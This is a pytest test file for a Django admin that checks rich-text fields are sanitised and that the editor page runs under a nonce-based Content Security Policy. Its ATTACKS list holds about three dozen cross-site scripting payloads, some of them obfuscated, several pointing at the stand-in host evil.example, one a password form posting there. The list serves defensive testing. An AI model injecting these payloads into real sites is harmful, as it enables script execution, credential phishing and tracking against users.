"""What staff write as formatted text is cleaned, however it was sent."""

import re

import pytest
from django.urls import reverse

from quartiere.models import SECTION_FIELDS, Quartier
from tests.admin_forms import form_data
from tests.factories import QuartierFactory

pytestmark = pytest.mark.django_db

ALLOWED = (
    "<h3>Kopf</h3><h4>Kleiner</h4><p><strong>fett</strong> und <em>kursiv</em><br></p>"
    "<ul><li><p>eins</p></li></ul><ol><li><p>zwei</p></li></ol><blockquote><p>Zitat</p></blockquote>"
    '<p><a href="https://example.org/">Link</a> <a href="mailto:a@example.org">Post</a></p>'
    '<table><tbody><tr><th colspan="2"><p>Kopf</p></th></tr></tbody></table>'
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
    '<a href="https://example.org" target="_blank">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>*{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<p id=x name=y class=kern-alert>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background='javascript:alert(1)'><tr><td></table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<h1>Zu groß</h1><h2>Auch</h2>",
    "<img src='https://evil.example/pixel.gif' alt=''>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xss onmouseover=alert(1)>x</xss>",
]
HARMLESS = {
    "p", "br", "strong", "em", "h3", "h4", "ul", "ol", "li", "blockquote", "a", "table", "tbody",
    "thead", "tr", "th", "td",
}  # fmt: skip


def save_texts(client, quartier, texts):
    """Post texts by field name; returns what is stored of them."""
    url = reverse("admin:quartiere_quartier_change", args=[quartier.pk])
    page = client.get(url)
    client.post(url, form_data(page, **texts))
    return Quartier.objects.values(*texts).get(pk=quartier.pk)


def faults(html):
    """What does not belong into formatted text: tags, attributes and link targets."""
    tags = set(re.findall(r"<\s*/?([a-z0-9]+)", html, re.IGNORECASE)) - HARMLESS
    attributes = set(re.findall(r"<[^>]*?\s([a-z-]+)\s*=", html, re.IGNORECASE))
    links = re.findall(r'href="([^"]*)"', html)
    return [
        *tags,
        *(attributes - {"href", "rel", "title", "colspan", "rowspan"}),
        *(link for link in links if not link.startswith(("https://", "mailto:"))),
    ]


@pytest.mark.parametrize("start", range(0, len(ATTACKS), len(SECTION_FIELDS)))
def test_attacks_are_removed_from_formatted_text(client, staff, quartier, start):
    attacks = dict(zip(SECTION_FIELDS, ATTACKS[start:], strict=False))
    client.force_login(staff)

    stored = save_texts(
        client,
        quartier,
        {field: f"<p>vorher</p>{attack}<p>nachher</p>" for field, attack in attacks.items()},
    )

    assert {attack: faults(stored[field]) for field, attack in attacks.items()} == {
        attack: [] for attack in attacks.values()
    }
    assert [text for text in stored.values() if not text.startswith("<p>vorher</p>")] == []


def test_what_the_editor_makes_stays(client, staff, quartier):
    client.force_login(staff)

    stored = save_texts(client, quartier, {"character": ALLOWED})

    assert stored == {"character": ALLOWED}


def test_every_section_is_cleaned(client, staff, quartier):
    client.force_login(staff)

    stored = save_texts(
        client, quartier, dict.fromkeys(SECTION_FIELDS, "<p>gut</p><script>böse()</script>")
    )

    assert stored == dict.fromkeys(SECTION_FIELDS, "<p>gut</p>")


def test_full_clean_is_what_imports_rely_on():
    quartier = QuartierFactory(character="<p onclick=x>gut</p><script>böse()</script>")

    quartier.full_clean()

    assert quartier.character == "<p>gut</p>"


def test_empty_editor_means_no_text(client, staff, quartier):
    client.force_login(staff)

    stored = save_texts(client, quartier, {"character": "<p></p>"})

    assert stored == {"character": ""}


def test_editor_runs_under_the_content_security_policy(client, staff, quartier):
    client.force_login(staff)

    response = client.get(reverse("admin:quartiere_quartier_change", args=[quartier.pk]))

    policy = response.headers["Content-Security-Policy"]
    (nonce,) = re.findall(r"'nonce-([^']+)'", policy)
    scripts = re.findall(r"<script(?![^>]*\ssrc=)([^>]*)>", response.text)
    assert [tag for tag in scripts if f'nonce="{nonce}"' not in tag] == []
    assert re.search(r"script-src 'self' 'nonce-[^']+'(;|$)", policy)
